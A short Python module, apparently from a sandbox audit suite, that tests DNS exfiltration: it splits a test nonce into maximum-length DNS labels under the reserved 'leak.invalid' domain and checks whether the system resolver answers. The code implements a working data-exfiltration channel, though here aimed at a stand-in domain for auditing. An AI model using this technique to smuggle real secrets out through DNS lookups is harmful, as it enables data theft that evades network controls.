"""Carries data out in the labels of names that the C library is asked to look up."""

from pacabench.audit.attacks.kit import Found, Given, found, resolve

_LABEL = 63
"""The longest that there is."""


def attack(given: Given) -> Found:
    """See above."""
    data = (given["nonce"] * 16)[: 3 * _LABEL]
    labels = [data[start : start + _LABEL] for start in range(0, len(data), _LABEL)]
    name = ".".join([*labels, "leak.invalid"])
    answered = resolve(name)
    return found(bool(answered), name=name, answered=answered)
